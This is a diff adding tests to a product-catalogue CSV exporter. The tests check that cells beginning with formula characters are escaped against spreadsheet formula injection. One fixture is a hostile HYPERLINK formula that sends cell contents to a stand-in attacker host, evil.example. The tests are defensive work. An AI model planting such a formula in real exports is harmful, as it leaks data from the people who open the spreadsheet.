@@ -167,3 +167,30 @@ describe('productsCsv', () => {
     expect(cell('salesPoints')).toBe('Cửa hàng OCOP, 1 Trần Phú');
   });
 });
+
+describe('productsCsv against spreadsheet formulas (CSV injection)', () => {
+  const hostile = '=HYPERLINK("https://evil.example/?x="&A1,"Lê Giang Ma")';
+  const records = ['=1+1', '+84 912 345 678', '-2', '@SUM(A1)', '\tx', '\rx', hostile].map((name, index) =>
+    productRecord({ ...product, id: `p${index}`, data: { ...product.data, name } }, 'HTX', url),
+  );
+  const csv = productsCsv(records);
+  const names = csv
+    .slice(1)
+    .trimEnd()
+    .split('\r\n')
+    .slice(1)
+    .map((row) => row.split(',')[1]);
+
+  it('neutralises every cell that starts with =, +, -, @, a tab or a carriage return', () => {
+    expect(csv).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
+    expect(names.slice(0, 4)).toEqual(["'=1+1", "'+84 912 345 678", "'-2", "'@SUM(A1)"]);
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1`);
+  });
+  it('leaves numbers and ordinary text alone', () => {
+    const [, row] = productsCsv([productRecord(product, 'HTX Nuôi ong', url)])
+      .slice(1)
+      .trimEnd()
+      .split('\r\n');
+    expect(row).toMatch(/^mat-ong,"Mật ong ""rừng"", Tam Đường",food,4,/);
+  });
+});
